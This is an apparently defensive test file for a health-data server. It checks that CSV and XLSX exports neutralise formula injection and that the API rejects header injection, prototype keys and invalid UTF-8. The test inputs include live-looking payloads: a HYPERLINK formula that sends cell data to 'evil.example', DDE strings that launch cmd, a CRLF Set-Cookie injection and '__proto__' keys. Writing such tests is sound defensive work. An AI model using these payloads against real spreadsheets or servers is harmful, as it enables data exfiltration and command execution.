import { join } from 'node:path';
import {
  importDataFile,
  importMetadataFile,
  saveUserAccount,
  everywhereContext,
} from '@healthwatch/services';
import { createApp } from '@healthwatch/server';
import { migrateStore, openStore } from '@healthwatch/store';
import { createTestDatabase, testDialects } from '@healthwatch/store/testing';
import type { Store } from '@healthwatch/store';
import type { TestDatabase } from '@healthwatch/store/testing';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sessionHeaders } from '../helpers/http-session.js';

/**
 * Hostile input that is not about scope (issue 13): spreadsheet formulas typed into comments and
 * names coming out of every CSV export, header injection through codes, prototype keys, invalid
 * UTF-8. Each must be refused clearly or rendered inert, never a 500.
 */
const packs = new URL('../../packs/', import.meta.url).pathname;
const PW = 'Input-attack-pass-3';
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?"&A1,"点击")',
  '+cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+9)*cmd|" /C calc"!A0',
];

/** Every cell of a CSV answer, parsed as a spreadsheet would read it. */
function csvCells(text: string): string[] {
  const rows: string[][] = parse(text.replace(/^\uFEFF/, ''), { relax_column_count: true });
  return rows.flat();
}
const live = (cells: readonly string[]): string[] =>
  cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d+(\.\d+)?$/.test(c));

for (const dialect of await testDialects()) {
  describe(`${dialect}: hostile input`, () => {
    let tdb: TestDatabase;
    let store: Store;
    let app: ReturnType<typeof createApp>;
    let h: Record<string, string>;

    beforeAll(async () => {
      tdb = await createTestDatabase(dialect);
      store = await openStore(tdb.url, { create: true });
      await migrateStore(store);
      await importMetadataFile(
        store,
        everywhereContext('test', 'zh-CN'),
        join(packs, 'example-district/dhis2-metadata.json'),
      );
      await importDataFile(
        store,
        everywhereContext('seed', 'zh-CN'),
        join(packs, 'example-district/reports-2024-03.csv'),
      );
      await saveUserAccount(store, everywhereContext('test', 'zh-CN'), {
        username: 'admin',
        password: PW,
        role: 'admin',
      });
      app = createApp(store, { today: () => '2024-04-10' });
      h = await sessionHeaders(app, 'admin', PW);
    });
    afterAll(async () => {
      await store.close();
      await tdb.drop();
    });

    it('writes formulas typed into comments and names as inert text in every CSV export, and reads them back unchanged', async () => {
      for (const [i, f] of FORMULAS.entries()) {
        const r = await app.request('/api/dataValues', {
          method: 'POST',
          headers: h,
          body: JSON.stringify({
            dataElement: 'BEDS',
            orgUnit: 'JJ-BS-HC',
            period: `20240${i + 1}`,
            value: '60',
            comment: f,
          }),
        });
        expect(r.status, await r.clone().text()).toBe(200);
      }
      const renamed = await app.request('/api/metadata/orgUnits/JJ-BS-VC1', {
        method: 'PUT',
        headers: h,
        body: JSON.stringify({ name: FORMULAS[0], parent: 'JJ-BS' }),
      });
      expect(renamed.status, await renamed.clone().text()).toBe(200);
      const exports = [
        '/api/dataValueSets?dataElement=BEDS&orgUnit=JJ-BS-HC&period=2024&format=csv',
        '/api/analytics?dimension=dx:OPD_VISITS&dimension=pe:202403&dimension=ou:JJ-BS;CHILDREN&format=csv',
        '/api/dataEntry/template?ds=MONTHLY&format=csv&ou=JJ-BS-VC1&pe=202403',
      ];
      for (const path of exports) {
        const r = await app.request(path, { headers: h });
        expect(r.status, path).toBe(200);
        const cells = csvCells(await r.text());
        expect(live(cells), path).toEqual([]);
      }
      const dvs = csvCells(await (await app.request(exports[0] ?? '', { headers: h })).text());
      expect(dvs).toContain(`'${FORMULAS[0] ?? ''}`);
      // The XLSX export stores text cells, never formulas.
      const xlsx = await app.request(
        '/api/analytics?dimension=dx:OPD_VISITS&dimension=pe:202403&dimension=ou:JJ-BS;CHILDREN&format=xlsx',
        { headers: h },
      );
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.load(await xlsx.arrayBuffer());
      wb.worksheets[0]?.eachRow((row) => {
        row.eachCell((cell) => expect(cell.type).not.toBe(ExcelJS.ValueType.Formula));
      });
      // A native CSV export imported again gives back exactly the comments typed.
      const native = await app.request(
        '/api/dataValueSets?dataElement=BEDS&orgUnit=JJ-BS-HC&period=2024&format=csv',
        { headers: h },
      );
      const again = await app.request('/api/dataValueSets?dryRun=true', {
        method: 'POST',
        headers: { ...h, 'content-type': 'text/csv' },
        body: await native.text(),
      });
      const summary = (await again.json()) as { imported: number; updated: number; ignored: number };
      expect(summary).toMatchObject({ imported: 0, updated: 0 });
    });

    it('refuses codes that would break a download header, and keeps names on one line', async () => {
      for (const code of ['MONTH"LY', 'MONTH\r\nSet-Cookie: a=1', 'A<script>', 'A\\B']) {
        const r = await app.request('/api/metadata?dryRun=true', {
          method: 'POST',
          headers: h,
          body: JSON.stringify({
            dataSets: [{ code, name: '月报', periodType: 'Monthly', dataElements: ['BEDS'] }],
          }),
        });
        expect(r.status, JSON.stringify(code)).toBe(400);
        expect(JSON.stringify(await r.json())).toContain('编码');
      }
      const newline = await app.request('/api/metadata?dryRun=true', {
        method: 'POST',
        headers: h,
        body: JSON.stringify({
          dataSets: [
            { code: 'OK_CODE', name: '月报\r\n第二行', periodType: 'Monthly', dataElements: ['BEDS'] },
          ],
        }),
      });
      expect(newline.status).toBe(400);
      const t = await app.request('/api/dataEntry/template?ds=MONTHLY&format=csv', { headers: h });
      expect(t.headers.get('content-disposition')).toMatch(
        /^attachment; filename="template-MONTHLY\.csv"; filename\*=UTF-8''template-MONTHLY\.csv$/,
      );
      expect(
        (await app.request('/api/dataEntry/template?ds=MONTHLY&format=csv&pe=%3D1%2B1', { headers: h }))
          .status,
      ).toBe(400);
      expect(
        (
          await app.request('/api/dataEntry/template?ds=MONTHLY&format=csv&ou=%3DHYPERLINK(1)', {
            headers: h,
          })
        ).status,
      ).toBe(404);
    });

    it('answers prototype keys, invalid UTF-8 and junk dimensions with a 4xx, never a 500', async () => {
      for (const q of [
        'dimension=dx:OPD_VISITS&dimension=pe:__proto__&dimension=ou:JJ-BS',
        'dimension=__proto__:x&dimension=dx:OPD_VISITS&dimension=pe:2024',
        'dimension=dx:constructor&dimension=pe:2024&dimension=ou:JJ-BS',
        'dimension=dx:OPD_VISITS&dimension=pe:2024&dimension=ou:__proto__',
        'dimension=dx:OPD_VISITS&dimension=pe:toString&filter=ou:constructor',
      ]) {
        const r = await app.request(`/api/analytics?${q}`, { headers: h });
        expect(r.status, q).toBeGreaterThanOrEqual(400);
        expect(r.status, q).toBeLessThan(500);
      }
      const bad = await app.request('/api/dataValues', {
        method: 'POST',
        headers: h,
        body: new Uint8Array([
          0x7b, 0x22, 0x63, 0x6f, 0x6d, 0x6d, 0x65, 0x6e, 0x74, 0x22, 0x3a, 0x22, 0xff, 0xfe, 0x22, 0x7d,
        ]),
      });
      expect(bad.status).toBe(400);
      expect(((await bad.json()) as { error: { message: string } }).error.message).toContain('UTF-8');
      expect((await app.request('/api/plans/__proto__/evaluation?year=2023', { headers: h })).status).toBe(
        404,
      );
    });
  });
}
